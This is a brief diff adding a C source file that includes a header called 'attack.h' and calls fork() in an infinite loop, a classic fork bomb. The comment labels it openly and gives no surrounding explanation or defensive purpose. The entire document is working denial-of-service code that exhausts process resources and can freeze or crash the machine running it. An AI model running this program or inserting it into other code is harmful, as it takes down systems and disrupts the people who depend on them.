@@ -1,0 +1,5 @@
+// Forks without end.
+#include "attack.h"
+int main(void) {
+  for (;;) fork();
+}
